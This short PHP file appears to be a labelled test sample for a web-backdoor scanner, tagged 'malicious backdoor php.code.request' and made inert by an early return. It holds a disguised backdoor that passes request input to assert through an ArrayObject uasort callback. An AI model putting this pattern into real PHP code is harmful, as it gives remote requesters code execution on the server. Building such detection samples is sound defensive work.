<?php return; // want: malicious backdoor php.code.request
$basket = new ArrayObject(array('apple', $_REQUEST['pear']));
$basket->uasort('assert');
